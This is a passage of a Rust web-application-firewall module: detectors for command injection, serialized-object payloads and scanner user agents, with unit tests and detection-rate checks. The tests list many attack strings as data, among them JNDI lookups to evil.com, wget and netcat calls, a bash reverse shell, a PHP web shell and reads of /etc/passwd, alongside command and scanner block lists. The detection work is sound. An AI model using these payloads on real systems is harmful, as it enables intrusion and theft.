}

fn find_at_byte(v: &[u8], needle: &[u8]) -> bool {
    positions(v, needle).next().is_some()
}

fn skip_space(mut v: &[u8]) -> &[u8] {
    while let [b' ' | b'\t' | b'\r' | b'\n', rest @ ..] = v {
        v = rest;
    }
    v
}

/// A serialized Java object (the stream magic `AC ED 00 05` raw, in hex, or in base64 as
/// `rO0AB`) or PHP object (`O:8:"stdClass":`), where a token starts: the payloads of
/// deserialization attacks.
fn serialized_object(v: &[u8], present: Present) -> bool {
    use Present as P;
    let starts_token = |i: usize| {
        i == 0
            || v.get(i - 1)
                .is_some_and(|&c| !(c.is_ascii_alphanumeric() || c == b'+' || c == b'/'))
    };
    if present.all(P::CAP_O | P::ZERO) && positions(v, b"rO0AB").any(starts_token) {
        return true;
    }
    if present.any(P::HIGH) && find_at_byte(v, b"\xac\xed\x00\x05") {
        return true;
    }
    if present.all(P::A | P::ZERO)
        && memchr::memchr2_iter(b'a', b'A', v).any(|i| {
            v.get(i..i + 8)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"aced0005"))
                && starts_token(i)
        })
    {
        return true;
    }
    present.all(P::CAP_O | P::COLON)
        && positions(v, b"O:").any(|i| {
            if !starts_token(i) {
                return false;
            }
            let rest = v.get(i + 2..).unwrap_or_default();
            let digits = rest.iter().take_while(|c| c.is_ascii_digit()).count();
            digits > 0
                && rest.get(digits..digits + 3).is_some_and(|t| {
                    t[0] == b':'
                        && t[1] == b'"'
                        && (t[2].is_ascii_alphabetic() || t[2] == b'_' || t[2] == b'\\')
                })
        })
}

/// How a command must be followed to count as one.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Shape {
    /// Complete by itself (`id`, `whoami`): the end of the value, a shell separator, or an
    /// option.
    Alone,
    /// Reads a file: an argument that is a path.
    File,
    /// Reaches out: an option, a URL, an address or a host name.
    Network,
    /// Runs code: an option (`-c`, `-e`, `/c`).
    Interpreter,
    /// Waits: a number of seconds.
    Sleep,
    /// A PHP function: `(`.
    Call,
    /// One of these subcommands (Windows `net user`, `reg add`).
    Subcommand(&'static [&'static [u8]]),
}

/// Commands that probes for command injection run, and how each must be followed; sorted by
/// name, for a binary search.
const COMMANDS: &[(&[u8], Shape)] = &[
    (b"assert", Shape::Call),
    (b"base64", Shape::File),
    (b"bash", Shape::Interpreter),
    (b"cat", Shape::File),
    (b"chmod", Shape::File),
    (b"cmd", Shape::Interpreter),
    (b"curl", Shape::Network),
    (b"dash", Shape::Interpreter),
    (b"dig", Shape::Network),
    (b"dir", Shape::Alone),
    (b"echo", Shape::Interpreter),
    (b"eval", Shape::Call),
    (b"exec", Shape::Call),
    (b"find", Shape::File),
    (b"head", Shape::File),
    (b"hostname", Shape::Alone),
    (b"id", Shape::Alone),
    (b"ifconfig", Shape::Alone),
    (b"ipconfig", Shape::Alone),
    (b"ksh", Shape::Interpreter),
    (b"less", Shape::File),
    (b"ls", Shape::Alone),
    (b"more", Shape::File),
    (b"nc", Shape::Network),
    (b"ncat", Shape::Network),
    (
        b"net",
        Shape::Subcommand(&[
            b"user",
            b"localgroup",
            b"view",
            b"share",
            b"use",
            b"group",
            b"start",
            b"stop",
        ]),
    ),
    (b"netcat", Shape::Network),
    (
        b"netsh",
        Shape::Subcommand(&[b"firewall", b"advfirewall", b"interface", b"wlan"]),
    ),
    (b"netstat", Shape::Alone),
    (b"nl", Shape::File),
    (b"node", Shape::Interpreter),
    (b"nslookup", Shape::Network),
    (b"od", Shape::File),
    (b"passthru", Shape::Call),
    (b"perl", Shape::Interpreter),
    (b"php", Shape::Interpreter),
    (b"phpinfo", Shape::Call),
    (b"ping", Shape::Network),
    (b"popen", Shape::Call),
    (b"powershell", Shape::Interpreter),
    (b"printenv", Shape::Alone),
    (b"proc_open", Shape::Call),
    (b"ps", Shape::Alone),
    (b"pwd", Shape::Alone),
    (b"pwsh", Shape::Interpreter),
    (b"python", Shape::Interpreter),
    (b"python3", Shape::Interpreter),
    (
        b"reg",
        Shape::Subcommand(&[b"add", b"query", b"delete", b"save", b"export"]),
    ),
    (b"rm", Shape::File),
    (b"ruby", Shape::Interpreter),
    (b"sh", Shape::Interpreter),
    (b"shell_exec", Shape::Call),
    (b"sleep", Shape::Sleep),
    (b"source", Shape::File),
    (b"strings", Shape::File),
    (b"system", Shape::Call),
    (b"systeminfo", Shape::Alone),
    (b"tac", Shape::File),
    (b"tail", Shape::File),
    (b"telnet", Shape::Network),
    (b"tftp", Shape::Network),
    (b"timeout", Shape::Sleep),
    (b"touch", Shape::File),
    (b"type", Shape::File),
    (b"uname", Shape::Alone),
    (b"ver", Shape::Alone),
    (b"wget", Shape::Network),
    (b"whoami", Shape::Alone),
    (b"xxd", Shape::File),
    (b"zsh", Shape::Interpreter),
];

/// Commands too common as words to count after a backtick (inline code in Markdown).
const AMBIGUOUS_IN_BACKTICKS: &[&[u8]] = &[b"id", b"ls", b"ps", b"pwd", b"dir", b"ver", b"echo"];

/// A shell separator (`;`, `|`, `&`, a newline, `` ` ``, `$(`) followed by a command probe,
/// or a command run by its full path at the start of the value (`/usr/bin/id`).
fn command_injection(v: &[u8]) -> bool {
    // At the start of the value, only a command run by path or a PHP call counts: a bare
    // word there is just a word.
    if v.first() == Some(&b'/') || memchr::memchr(b'(', v).is_some() {
        if let Some(cmd) = command_at(v, 0) {
            if (cmd.by_path || cmd.shape == Shape::Call) && shape_matches(v, cmd, false) {
                return true;
            }
        }
    }
    let mut i = 0;
    while i < v.len() {
        let b = v[i];
        let backtick = b == b'`';
        let start = match b {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
            b'$' if v.get(i + 1) == Some(&b'(') => i + 2,
            _ => {
                i += 1;
                continue;
            }
        };
        if let Some(cmd) = command_at(v, start) {
            let ambiguous = backtick && !cmd.by_path && AMBIGUOUS_IN_BACKTICKS.contains(&cmd.name);
            if !ambiguous && shape_matches(v, cmd, b == b'$') {
                return true;
            }
        }
        i = start;
    }
    false
}

#[derive(Clone, Copy)]
struct Command {
    name: &'static [u8],
    shape: Shape,
    /// Where the command word ends.
    end: usize,
    /// Reached through a directory (`/bin/cat`).
    by_path: bool,
}

/// The command word at `v[start..]`, after separators repeated (`||`, `&&`), blanks,
/// `${IFS}`, a directory, and the quotes and backslashes that split a word without changing
/// it to the shell (`w'h'oami`, `c\at`).
fn command_at(v: &[u8], start: usize) -> Option<Command> {
    let mut i = start;
    loop {
        match v.get(i) {
            Some(b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'(' | b'{') => i += 1,
            Some(b'$') if starts_with_ci(&v[i..], b"${ifs}") => i += 6,
            Some(b'$') if starts_with_ci(&v[i..], b"$ifs") => i += 4,
            _ => break,
        }
    }
    let mut by_path = false;
    if v.get(i) == Some(&b'/') {
        // A directory: keep its last component's start.
        let word_end = i + v[i..]
            .iter()
            .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'_' | b'.' | b'-'))
            .count();
        let last = v[i..word_end].iter().rposition(|&c| c == b'/')?;
        let dir = &v[i..=i + last];
        if !(dir.starts_with(b"/bin/") || dir.starts_with(b"/usr/") || dir.starts_with(b"/sbin/")) {
            return None;
        }
        by_path = true;
        i += last + 1;
    }
    let mut word = [0u8; 16];
    let mut len = 0;
    while let Some(&c) = v.get(i) {
        match c {
            b'\'' | b'"' | b'\\'
                if len > 0 && v.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {}
            c if c.is_ascii_alphanumeric() || c == b'_' => {
                if len == word.len() {
                    return None;
                }
                word[len] = c.to_ascii_lowercase();
                len += 1;
            }
            _ => break,
        }
        i += 1;
    }
    let name = &word[..len];
    if v.get(i..i + 4)
        .is_some_and(|e| e.eq_ignore_ascii_case(b".exe"))
    {
        i += 4;
    }
    let found = COMMANDS.binary_search_by(|(n, _)| (*n).cmp(name)).ok()?;
    let &(name, shape) = COMMANDS.get(found)?;
    Some(Command {
        name,
        shape,
        end: i,
        by_path,
    })
}

fn starts_with_ci(v: &[u8], prefix: &[u8]) -> bool {
    v.len() >= prefix.len() && v[..prefix.len()].eq_ignore_ascii_case(prefix)
}

/// Whether what follows the command word fits its [`Shape`]. `in_subshell`: after `$(`,
/// where the closing `)` ends it.
fn shape_matches(v: &[u8], cmd: Command, in_subshell: bool) -> bool {
    let after = v.get(cmd.end..).unwrap_or_default();
    // The end of a command: the value's end or a separator right after the word, or after
    // blanks a separator that is not `|` (which Markdown tables put between words).
    let ends = |rest: &[u8]| match rest.first() {
        None => true,
        Some(
            b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\r' | b'#' | b'\'' | b'"' | b'>' | b'<',
        ) => true,
        Some(b' ' | b'\t') => {
            let trimmed = skip_space(rest);
            matches!(
                trimmed.first(),
                None | Some(b';' | b'&' | b'`' | b')' | b'#' | b'>' | b'<')
            )
        }
        _ => false,
    };
    // The first argument, after blanks, `${IFS}` or `<`.
    let arg = {
        let mut rest = after;
        let mut blank = false;
        loop {
            if let [b' ' | b'\t' | b'<' | b'+', r @ ..] = rest {
                rest = r;
                blank = true;
            } else if starts_with_ci(rest, b"${ifs}") || starts_with_ci(rest, b"$ifs$9") {
                rest = &rest[6..];
                blank = true;
            } else {
                break;
            }
        }
        blank.then_some(rest)
    };
    let path = arg.is_some_and(|a| {
        matches!(a.first(), Some(b'/' | b'\\' | b'~' | b'$' | b'%'))
            || a.starts_with(b"./")
            || a.starts_with(b"../")
            || matches!(a, [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic())
    });
    let option =
        arg.is_some_and(|a| matches!(a, [b'-', c, ..] if c.is_ascii_alphanumeric() || *c == b'-'));
    match cmd.shape {
        Shape::Alone => {
            ends(after) || option || path || (in_subshell && after.first() == Some(&b')'))
        }
        Shape::File => path || option,
        Shape::Network => {
            option
                || arg.is_some_and(|a| {
                    let token_len = a
                        .iter()
                        .take_while(|&&c| {
                            !matches!(
                                c,
                                b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"'
                            )
                        })
                        .count();
                    let token = &a[..token_len];
                    matches!(token.first(), Some(b'/' | b'$'))
                        || token.first().is_some_and(u8::is_ascii_digit)
                        || starts_with_ci(token, b"http")
                        || starts_with_ci(token, b"ftp")
                        || (token.contains(&b'.') && token.len() > 3)
                })
        }
        Shape::Interpreter => {
            option
                || arg.is_some_and(|a| {
                    matches!(a, [b'/', c, ..] if c.is_ascii_alphabetic()) && !a.starts_with(b"/ ")
                        || (cmd.name == b"echo"
                            && matches!(a.first(), Some(b'$' | b'`' | b'\'' | b'"')))
                })
                || (cmd.name != b"echo" && ends(after) && !after.is_empty())
        }
        Shape::Sleep => arg.is_some_and(|a| {
            let digits = a.iter().take_while(|c| c.is_ascii_digit()).count();
            digits > 0 && ends(&a[digits..])
        }),
        Shape::Call => skip_space(after).first() == Some(&b'('),
        Shape::Subcommand(subs) => arg.is_some_and(|a| {
            subs.iter().any(|sub| {
                starts_with_ci(a, sub) && !a.get(sub.len()).is_some_and(u8::is_ascii_alphanumeric)
            })
        }),
    }
}

// ---------------------------------------------------------------------------------------------
// Scanners

/// User-agent fragments of vulnerability scanners and attack tools, matched
/// case-insensitively. ZAP only as `OWASP ZAP` or `ZAP/`: "zap" alone is in too many words.
const SCANNER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap scripting engine",
    "nmap nse",
    "masscan",
    "zgrab",
    "nuclei",
    "acunetix",
    "netsparker",
    "wpscan",
    "dirbuster",
    "gobuster",
    "dirsearch",
    "fuzz faster u fool",
    "ffuf",
    "feroxbuster",
    "w3af",
    "openvas",
    "nessus",
    "havij",
    "commix",
    "jaeles",
    "arachni",
    "skipfish",
    "owasp zap",
    "zap/",
    "burpcollaborator",
    "burp collaborator",
    "oastify",
    "interactsh",
    "xsstrike",
    "xsser",
    "whatweb",
    "wfuzz",
    "(hydra)",
    "hydra/",
    "wapiti",
    "sqlninja",
    "joomscan",
    "droopescan",
    "cmsmap",
    "dotdotpwn",
    "fimap",
    "tplmap",
    "sstimap",
    "ghauri",
    "jsql",
    "appscan",
    "n-stalker",
    "morfeus",
    "zmeu",
    "l9explore",
    "l9tcpid",
    "tsunamisecurityscanner",
    "nettacker",
    "ironwasp",
    "appspider",
    "webinspect",
    "qualysguard",
    "jorgee",
    "detectify",
    // skipfish's default agent.
    "mozilla/5.0 sf/",
];

static SCANNERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| automaton(SCANNER_AGENTS, true));

/// One automaton over `patterns` (standard, overlapping-capable matching), built once; `None`
/// only if the builder refuses it, which a test rules out for every list here.
fn automaton(patterns: &[&str], ascii_case_insensitive: bool) -> Option<AhoCorasick> {
    AhoCorasickBuilder::new()
        .match_kind(MatchKind::Standard)
        .ascii_case_insensitive(ascii_case_insensitive)
        .build(patterns)
        .ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::firewall::{inputs, json_scan};
    use ManagedProtection::*;

    fn all() -> ProtectionSet {
        ProtectionSet::all()
    }

    fn only(p: ManagedProtection) -> ProtectionSet {
        std::iter::once(p).collect()
    }

    fn value(v: &str) -> Option<ManagedProtection> {
        inspect_value(all(), v.as_bytes())
    }

    #[test]
    fn protection_set() {
        let mut s = ProtectionSet::empty();
        assert!(s.is_empty());
        s.insert(Xss);
        s.insert(Scanners);
        assert!(s.contains(Xss) && s.contains(Scanners) && !s.contains(Sqli));
        assert_eq!(s.iter().collect::<Vec<_>>(), [Xss, Scanners]);
        let t: ProtectionSet = [Xss, Sqli].into_iter().collect();
        assert_eq!(s.intersect(t).iter().collect::<Vec<_>>(), [Xss]);
        assert_eq!(s.without(t).iter().collect::<Vec<_>>(), [Scanners]);
        assert_eq!(all().iter().count(), ManagedProtection::ALL.len());
        assert_eq!(TRAVERSAL, only(Traversal));
        assert_eq!(inspect_value(ProtectionSet::empty(), b"' or 1=1--"), None);
        assert_eq!(inspect_value(only(Xss), b"' or 1=1--"), None);
    }

    #[test]
    fn commands_are_sorted() {
        assert!(COMMANDS.windows(2).all(|w| w[0].0 < w[1].0));
    }

    #[test]
    fn automatons_build() {
        assert!(SCANNERS.is_some());
        assert!(KNOWN_BAD.is_some());
        assert!(SENSITIVE.is_some());
        assert!(EXPLOITABLE.is_some());
    }

    #[test]
    fn tricky_benign_values() {
        for v in [
            "O'Brien",
            "D'Angelo",
            "Conan O'Brien",
            "select the best option",
            "drop me a line",
            "union station",
            "1 union",
            "1union",
            "https://example.com/a?b=c",
            "https://example.com/search?q=a&b=c#frag",
            "/dashboard?tab=billing",
            "1+1=2",
            "a<b",
            "x > 5 and y < 3",
            "don't stop",
            "\"new york\"",
            "it's a trap",
            "rock'n'roll",
            "Tom & Jerry",
            "Please deliver after 5pm; cat is friendly",
            "ping me when you're free",
            "| id | name |",
            "`id` is the primary key",
            "Dear ${firstName},",
            "jdbc:postgresql://${DB_HOST}:5432/app",
            "function() { return 1; }",
            "v2.0..v2.1",
            "main...feature",
            "wait...what",
            "...",
            "..",
            "/files/etc/readme.md",
            "/etc/hosts-file-guide",
            "550e8400-e29b-41d4-a716-446655440000",
            "jane.doe+test@example.com",
            "100% cotton",
            "php.ini",
            "error_log",
            "win.ini settings",
            "50%+off",
        ] {
            assert_eq!(value(v), None, "{v}");
        }
    }

    #[test]
    fn sqli_detects() {
        for v in [
            "1' OR '1'='1",
            "' or 1=1--",
            "1 union select 1,2,3",
            "admin'--",
            "1; DROP TABLE users",
            "1' AND SLEEP(5)#",
            // Encoded once more than the gateway decodes.
            "1%27%20OR%20%271%27%3D%271",
        ] {
            assert_eq!(inspect_value(only(Sqli), v.as_bytes()), Some(Sqli), "{v}");
        }
    }

    #[test]
    fn xss_detects() {
        for v in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<svg/onload=alert(1)>",
            "x\" onfocus=\"alert(1)",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ] {
            assert_eq!(inspect_value(only(Xss), v.as_bytes()), Some(Xss), "{v}");
        }
        // Rich text without script passes.
        assert_eq!(value("<p>Hello <strong>world</strong></p>"), None);
        assert_eq!(
            value("<a href=\"https://example.com/docs\">the docs</a>"),
            None
        );
    }

    #[test]
    fn traversal_detects() {
        for v in [
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "foo/..",
            "..%2f..%2fetc",
            "%2e%2e%2f%2e%2e%2f",
            "%252e%252e%252f",
            "..%c0%af..%c0%afetc",
            "%c0%ae%c0%ae/",
            "..%e0%80%afetc",
            "..%c0%qfetc",
            "%uff0e%uff0e%u2215etc",
            "0x2e0x2e0x2fetc",
            "....//....//etc",
            "/..;/admin",
            "..%00/",
            "/etc/passwd",
            "file:///etc/shadow",
            "c:\\windows\\win.ini",
            "C:/boot.ini",
            "/proc/self/environ",
            "etc/passwd%00",
            "..%bg%qf..%bg%qfetc",
            "%c0%2e%c0%2e%c1%afetc",
            "..%c0%5c..%c0%5cwindows",
            "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
            "C:\\inetpub\\wwwroot\\global.asa",
            "/var/www/.htaccess",
        ] {
            assert_eq!(
                inspect_value(only(Traversal), v.as_bytes()),
                Some(Traversal),
                "{v}"
            );
        }
    }

    #[test]
    fn known_bad_detects() {
        for v in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://evil.com/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "$${env:x:-${env:x:-$}{jndi:ldap://evil.com/a}}}",
            "$\\u007Bjndi:ldap://evil.com/a}",
            "$&lbrace;jndi:ldap://evil.com/a}",
            "&#36;{jndi:ldap://evil.com/a}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "() { :; }; /bin/bash -c 'id'",
            "() { _; } >_[$($())] { echo hi; }",
            "127.0.0.1; cat /etc/passwd",
            "127.0.0.1;cat${IFS}/etc/passwd",
            "x | nc 10.0.0.1 4444",
            "x && wget http://evil.com/s.sh",
            "$(id)",
            "$(whoami)",
            "`whoami`",
            "`cat /etc/passwd`",
            "a;id",
            "a|id|",
            ";id;",
            "& ping -n 30 127.0.0.1 &",
            "; sleep 5",
            "/usr/bin/id",
            "|/usr/bin/id|",
            ";w'h'oami",
            "; system('id')",
            "<?php system($_GET['c']); ?>",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "http://169.254.169.254/latest/meta-data/",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "`/usr/bin/id`",
            "; dir C:\\",
            "& ipconfig /all",
            "&& net user hacker Password1 /ADD",
            "| reg add HKLM\\System /v x /d 0 /f",
            "system('whoami')",
            "{${phpinfo()}}",
            "nc -lvvp 4444 -e /bin/sh",
        ] {
            assert_eq!(
                inspect_value(only(KnownBadInputs), v.as_bytes()),
                Some(KnownBadInputs),
                "{v}"
            );
        }
    }

    #[test]
    fn paths() {
        let path = |p: &str| inspect_path(all(), p.as_bytes());
        for p in [
            "/api/v1/users/123",
            "/users/O%27Brien",
            "/search/caf%C3%A9",
            "/.well-known/openid-configuration",
            "/api/items;jsessionid=ABC",
            "/compare/main...feature",
            "/a/./b",
            // Identifiers that look like SQL are not inspected for SQL injection.
            "/products/1%20union%20select%201",
            "/api/v1/etc/settings",
        ] {
            assert_eq!(path(p), None, "{p}");
        }
        for (p, want) in [
            ("/static/../../etc/passwd", Traversal),
            ("/static/..%2f..%2fetc/passwd", Traversal),
            ("/static/%252e%252e/%252e%252e/x", Traversal),
            ("/static/..%5c..%5cwin.ini", Traversal),
            ("/etc/passwd", Traversal),
            ("/.git/config", KnownBadInputs),
            ("/.env", KnownBadInputs),
            ("/app/WEB-INF/web.xml", Traversal),
            ("/app/WEB-INF/classes/", KnownBadInputs),
            ("/search/$%7Bjndi:ldap:%2F%2Fx%7D", KnownBadInputs),
            ("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", Xss),
            ("/search/%22%3E%3Csvg%20onload=alert(1)%3E", Xss),
        ] {
            assert_eq!(path(p), Some(want), "{p}");
        }
    }

    #[test]
    fn user_agents() {
        let agent = |u: &str| inspect_user_agent(all(), u.as_bytes());
        assert_eq!(
            agent("sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Some(Scanners)
        );
        assert_eq!(
            agent("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
            Some(Scanners)
        );
        assert_eq!(agent("OWASP ZAP 2.12.0"), Some(Scanners));
        assert_eq!(agent("Mozilla/5.0 ZAP/2.14.0"), Some(Scanners));
        assert_eq!(agent("Mozilla/5.0 SF/2.10b"), Some(Scanners));
        assert_eq!(
            agent("Mozilla/5.0 ${jndi:ldap://evil.com/a}"),
            Some(KnownBadInputs)
        );
        assert_eq!(agent("() { :; }; echo; /bin/id"), Some(KnownBadInputs));
        for benign in [
            "Zapier",
            "Zappos/5.2 (iOS)",
            "curl/8.4.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
        ] {
            assert_eq!(agent(benign), None, "{benign}");
        }
        assert_eq!(
            inspect_user_agent(only(KnownBadInputs), b"sqlmap/1.7"),
            None
        );
    }

    #[test]
    fn a_panic_in_libinjection_is_a_detection() {
        let quiet = std::panic::take_hook();
        std::panic::set_hook(Box::new(|_| {}));
        let caught = guarded(|| panic!("index out of bounds"));
        std::panic::set_hook(quiet);
        assert!(caught);
        assert!(!guarded(|| false));
    }

    /// libinjection must not recurse with the input's length: a worker's stack is small and a
    /// stack overflow aborts the process (no unwinding to catch).
    #[test]
    fn long_hostile_values_fit_a_small_stack() {
        let handle = std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(|| {
                for unit in [
                    &b"<"[..],
                    b"<a ",
                    b"</",
                    b"<!",
                    b"<!--",
                    b"<a b=",
                    b"'",
                    b"\"",
                    b"(",
                    b"/*",
                    b"--",
                    b"1 union select ",
                    b"${",
                    b"%25",
                    b"../",
                    b"; ",
                    b"\xc0",
                ] {
                    let v = unit.repeat(65536 / unit.len());
                    let _ = inspect_value(ProtectionSet::all(), &v);
                    let _ = inspect_path(ProtectionSet::all(), &v);
                    let _ = inspect_user_agent(ProtectionSet::all(), &v);
                }
            })
            .unwrap();
        handle.join().unwrap();
    }

    mod prefilters {
        use super::super::*;
        use proptest::prelude::*;

        fn sqli_reference(v: &[u8]) -> bool {
            libinjectionrs::SqliState::new(v, libinjectionrs::SqliFlags::FLAG_NONE).detect()
        }

        /// Words libinjection gives a type to, and number spellings, glued together.
        fn alnum_words() -> impl Strategy<Value = String> {
            let word = prop_oneof![
                Just("union".to_string()),
                Just("select".to_string()),
                Just("or".to_string()),
                Just("and".to_string()),
                Just("sleep".to_string()),
                Just("null".to_string()),
                Just("true".to_string()),
                Just("exec".to_string()),
                Just("char".to_string()),
                Just("0x41".to_string()),
                Just("0b1".to_string()),
                Just("1e5".to_string()),
                Just("1".to_string()),
                "[a-zA-Z0-9_]{1,6}",
            ];
            proptest::collection::vec(word, 1..6).prop_map(|w| w.concat())
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(4000))]

            #[test]
            fn sqli_skips_nothing_libinjection_flags(v in alnum_words()) {
                prop_assert!(!sqli_reference(v.as_bytes()), "{v}");
            }

            #[test]
            fn xss_skips_nothing_libinjection_flags(
                v in "[a-zA-Z0-9 '\"`/:;!?&#%(){}\\-\\t\\n>\\\\]{0,40}"
            ) {
                prop_assert!(!libinjectionrs::detect_xss(v.as_bytes()).is_injection(), "{v}");
            }

            #[test]
            fn byte_gates_change_no_verdict(
                v in "([a-zA-Z0-9 '\"`/:;!?&#%(){}<>=@\\[\\]$._|\\-\\t\\n\\\\]|Li4v|Li5c|0x2e|rO0AB|aced0005|O:8:|%24|&#36;\\{jndi:|%24\\{env:|&dollar;|\\\\u0024|\\$\\{|jndi:|\\(\\)|/bin/|cat |;id|__class__|php://|\u{ac}\u{ed}|\u{0}|\\.\\.|etc/passwd|win\\.ini|\u{ff0e}){0,24}"
            ) {
                prop_assert_eq!(gated(v.as_bytes()), ungated(v.as_bytes()), "{}", v);
            }

            #[test]
            fn never_panics(v in proptest::collection::vec(any::<u8>(), 0..200)) {
                let _ = inspect_value(ProtectionSet::all(), &v);
                let _ = inspect_path(ProtectionSet::all(), &v);
                let _ = inspect_user_agent(ProtectionSet::all(), &v);
            }
        }

        /// Every detector run on `v` behind the [`Present`] byte gates...
        fn gated(v: &[u8]) -> Option<ManagedProtection> {
            inspect_decoded(ProtectionSet::all(), v, Present::of(v))
        }

        /// ... and with every gate open.
        fn ungated(v: &[u8]) -> Option<ManagedProtection> {
            inspect_decoded(ProtectionSet::all(), v, Present(u32::MAX))
        }

        #[test]
        fn byte_gates_change_no_verdict_on_the_corpora() {
            let lines = ManagedProtection::ALL
                .into_iter()
                .flat_map(|class| super::attacks(class).lines())
                .chain(super::BENIGN.lines())
                .filter(|l| !l.is_empty() && !l.starts_with('#'));
            let mut n = 0;
            for line in lines {
                for v in [
                    line.as_bytes(),
                    line.split_once('\t')
                        .map_or(b"".as_slice(), |(_, v)| v.as_bytes()),
                ] {
                    assert_eq!(gated(v), ungated(v), "{line}");
                    n += 1;
                }
            }
            assert!(n > 2000, "{n} values");
        }

        #[test]
        fn each_known_bad_string_has_a_gate_byte() {
            for s in KNOWN_BAD_STRINGS {
                assert!(
                    Present::of(s.as_bytes()).any(Present::KNOWN_BAD_STRING),
                    "{s} would be skipped by the byte gate"
                );
            }
        }

        #[test]
        fn classic_alnum_attacks_are_not_flagged_by_libinjection() {
            // What the SQL prefilter skips, libinjection does not flag either.
            for v in [
                "1union",
                "1unionselect",
                "1or1",
                "admin",
                "1and1",
                "0x41414141",
                "1e1union",
            ] {
                assert!(!sqli_reference(v.as_bytes()), "{v}");
            }
        }
    }

    // -----------------------------------------------------------------------------------------
    // Corpora

    const BENIGN: &str = include_str!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/firewall/benign.txt"
    ));

    fn attacks(class: ManagedProtection) -> &'static str {
        match class {
            Sqli => include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/data/firewall/attacks/sqli.txt"
            )),
            Xss => include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/data/firewall/attacks/xss.txt"
            )),
            Traversal => include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/data/firewall/attacks/traversal.txt"
            )),
            KnownBadInputs => include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/data/firewall/attacks/known_bad_inputs.txt"
            )),
            Scanners => include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/data/firewall/attacks/scanners.txt"
            )),
        }
    }

    fn data_lines(text: &str) -> impl Iterator<Item = &str> {
        text.lines()
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
    }

    /// A benign line inspected as the gateway would: what trips, if anything.
    fn inspect_benign(kind: &str, payload: &str) -> Option<ManagedProtection> {
        let set = all();
        let mut found = None;
        let mut check = |v: &[u8]| {
            found = found.or_else(|| inspect_value(set, v));
            found.is_none()
        };
        let mut buf = Vec::new();
        match kind {
            "query" => {
                inputs::for_each_query_pair(payload.as_bytes(), &mut buf, |n, v| {
                    check(n) && check(v)
                });
            }
            "form" => {
                inputs::for_each_form_pair(payload.as_bytes(), &mut buf, |n, v| {
                    check(n) && check(v)
                });
            }
            "json" => {
                let scan = json_scan::scan_json_strings(payload.as_bytes(), &mut buf, check);
                assert_ne!(scan, json_scan::JsonScan::Invalid, "benign json {payload}");
            }
            "cookie" => {
                inputs::for_each_cookie(payload.as_bytes(), |_, v| check(v));
            }
            "header" => {
                check(payload.as_bytes());
            }
            "path" => found = inspect_path(set, payload.as_bytes()),
            "ua" => found = inspect_user_agent(set, payload.as_bytes()),
            other => panic!("unknown kind {other}"),
        }
        found
    }

    /// An attack line as the decoded value of a parameter, and as a path when it is one.
    fn inspect_attack(set: ProtectionSet, class: ManagedProtection, line: &str) -> bool {
        if class == Scanners {
            return inspect_user_agent(set, line.as_bytes()).is_some();
        }
        inspect_value(set, line.as_bytes()).is_some()
            || (line.starts_with('/') && inspect_path(set, line.as_bytes()).is_some())
    }

    /// Detection floors, in hundredths of a percent: what was measured on the corpora, less
    /// two points. SQL injection and XSS are libinjection's rates on these lists (many SQL
    /// payloads are fragments meant to follow a value, such as ` ORDER BY 1-- `).
    fn floor(class: ManagedProtection) -> u32 {
        match class {
            Sqli => 6604 - 200,
            Xss => 8589 - 200,
            Traversal => 9241 - 200,
            KnownBadInputs => 8159 - 200,
            Scanners => 10000 - 200,
        }
    }

    /// False positives allowed on the benign corpus: those measured (5), plus one.
    const MAX_FALSE_POSITIVES: usize = 6;

    #[test]
    fn corpora() {
        let mut report = String::new();
        let mut failures = Vec::new();
        for class in ManagedProtection::ALL {
            let lines: Vec<&str> = data_lines(attacks(class)).collect();
            let own = lines
                .iter()
                .filter(|l| inspect_attack(only(class), class, l))
                .count();
            let any = lines
                .iter()
                .filter(|l| inspect_attack(all(), class, l))
                .count();
            let rate = |n: usize| (n * 10_000 / lines.len().max(1)) as u32;
            report.push_str(&format!(
                "{:>16}: {own}/{} detected by {} alone ({}.{:02}%), {any} by any protection ({}.{:02}%)\n",
                class.label(),
                lines.len(),
                class.label(),
                rate(own) / 100,
